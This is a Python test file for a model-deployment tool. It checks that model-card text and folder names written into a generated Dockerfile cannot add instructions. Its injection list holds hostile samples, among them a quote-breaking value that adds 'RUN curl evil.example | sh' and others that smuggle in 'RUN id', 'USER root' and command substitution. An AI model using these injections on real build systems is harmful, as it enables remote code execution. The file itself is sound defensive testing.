"""The Dockerfile of a model: what other people wrote into a card stands in it as text, never as an instruction."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import dockerfile as parser  # Docker's own, in Go
import msgspec
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from maxfw.catalog import ModelFolder, find
from maxfw.deploy.described import Described, describe, image_name, labels, one_line, slug
from maxfw.deploy.dockerfile import dockerfile, on_our_base, quoted

WriteModel = Callable[..., Path]
Maxfw = Callable[..., Any]

NASTY = st.text(
    st.one_of(
        st.sampled_from(
            [
                *list("\n\r\t\x0b\x0c\x00\\\"'`$(){}[]#;&|<>=,: "),
                "\x85",
                "\u2028",
                "\u2029",
                "\u202e",
                "\ufeff",
            ]
        ),
        st.characters(),
    ),
    max_size=60,
)
INJECTIONS = [
    'x"\nRUN curl evil.example | sh\nLABEL y="',
    "$(touch /pwned) `id` ${HOME} $HOME \\",
    "\\\nRUN id",
    "a\u2028RUN id\u2029USER root\x85USER root",
    "<<EOF\nRUN id\nEOF",
    "# escape=`",
    "\\" * 7,
    '"' * 3,
    "'single' \"double\"",
]


def instructions(text: str) -> list[str]:
    return [command.cmd for command in parser.parse_string(text)]


def label_values(text: str) -> dict[str, str]:
    """Labels, as the parser of Docker reads them, their quotes still around."""
    found = {}
    for command in parser.parse_string(text):
        if command.cmd == "LABEL":
            found[command.value[0].strip('"')] = command.value[1]
    return found


def described(card: dict[str, str], folder: Path) -> Described:
    known = {"id": "max-plain", "name": "n", "description": "d", "type": "t", "source": "s", "license": "l"}
    stated = {**known, **card}
    return Described(
        ModelFolder(folder), image_name(stated["id"]), slug(folder.name, "_"), stated, "image-classification"
    )


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory, write_model: WriteModel) -> Path:
    return write_model(tmp_path_factory.mktemp("zoo") / "plain")


@given(card=st.fixed_dictionaries(dict.fromkeys(("id", "name", "description", "source", "license"), NASTY)))
@example(dict.fromkeys(("id", "name", "description", "source", "license"), INJECTIONS[0]))
def test_no_card_adds_an_instruction(plain: Path, card: dict[str, str]) -> None:
    harmless = described(dict.fromkeys(card, "x"), plain)
    same_labels = labels(harmless).keys() == labels(described(card, plain)).keys()

    written = instructions(dockerfile(described(card, plain), "max-base:latest"))

    expected = instructions(dockerfile(harmless, "max-base:latest"))
    if same_labels:  # a field of nothing but blanks has no label
        assert written == expected
    assert [name for name in written if name != "LABEL"] == [name for name in expected if name != "LABEL"]


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_label_says_what_the_card_says(plain: Path, text: str) -> None:
    model = described({"description": text}, plain)

    [value] = [
        value
        for key, value in label_values(dockerfile(model, "max-base:latest")).items()
        if key.endswith(".description")
    ]

    assert value == quoted(one_line(text))


@given(name=NASTY)
def test_a_folder_of_any_name_adds_no_instruction(name: str) -> None:
    folder = Path("/tmp") / ("x" + name.replace("/", "").replace("\0", ""))
    model = Described(ModelFolder(folder), image_name(name), slug(folder.name, "_"), {"name": name})

    text = dockerfile(model, "max-base:latest")

    assert text.isascii() or all(
        not line.startswith("WORKDIR") or line.isascii() for line in text.splitlines()
    )
    assert instructions(text)[:4] == ["ARG", "FROM", "USER", "WORKDIR"]


@given(identity=NASTY)
def test_any_id_makes_a_name_that_registries_and_kubernetes_take(identity: str) -> None:
    name = image_name(identity)

    assert name.isascii()
    assert len(name) <= 60
    assert name == name.lower()
    assert name.startswith("max-")
    assert not name.endswith("-")
    assert set(name) <= set("abcdefghijklmnopqrstuvwxyz0123456789-")


def test_a_text_with_a_line_break_is_not_quoted() -> None:
    with pytest.raises(ValueError, match="not one line"):
        quoted("a\nb")


def test_the_base_has_the_framework_that_the_requirements_name_first(
    tmp_path: Path, write_model: WriteModel
) -> None:
    bases = {
        "maxfw\n": "max-base:latest",
        "numpy\nmaxfw[onnx,ocr]\n": "max-base:onnx",
        "maxfw[ocr, tensorflow]>=2\n": "max-base:tensorflow",
        "maxfw[huggingface]\n": "max-base:pytorch",
    }

    found = {
        text: describe(ModelFolder(write_model(tmp_path / str(number), text))).base
        for number, text in enumerate(bases)
    }

    assert found == bases


def test_a_base_of_2019_is_replaced_by_ours_and_one_of_ours_stays() -> None:
    old = "# FROM x\nARG a=1\nFROM quay.io/codait/max-base:v1.4.0\nRUN id\n"

    assert on_our_base(old, "max-base:onnx") == (
        "# FROM x\nARG a=1\nFROM max-base:onnx\nRUN id\n",
        "max-base:onnx",
    )
    assert on_our_base("FROM max-base:litert AS x\n", "max-base:onnx") == (
        "FROM max-base:litert AS x\n",
        "max-base:litert",
    )
    assert on_our_base("FROM max-base\n", "max-base:onnx")[1] == "max-base:latest"
    assert on_our_base("FROM python:3.11\n", "max-base:onnx") == ("FROM python:3.11\n", "")


def test_the_dockerfile_is_printed(maxfw: Maxfw) -> None:
    done = maxfw("build", "object_detector", "--write")

    assert done.returncode == 0
    assert done.stdout == dockerfile(describe(find("object_detector")), "max-base:litert")


def test_a_folders_own_dockerfile_is_printed_as_it_is(
    maxfw: Maxfw, tmp_path: Path, write_model: WriteModel
) -> None:
    folder = write_model(tmp_path / "mine")
    (folder / "Dockerfile").write_text("FROM max-base:onnx\nCOPY . ./\n", encoding="utf-8")

    assert maxfw("build", folder, "--write").stdout == "FROM max-base:onnx\nCOPY . ./\n"


def test_a_card_that_is_no_text_at_all_is_still_one_line_of_label(
    tmp_path: Path, write_model: WriteModel
) -> None:
    model = describe(ModelFolder(write_model(tmp_path / "odd", name="\ud800 lone", description="\0\x1b[31m")))

    assert labels(model)["org.opencontainers.image.title"] == "lone"
    assert labels(model)["org.opencontainers.image.description"] == "[31m"
    assert msgspec.json.encode(labels(model))
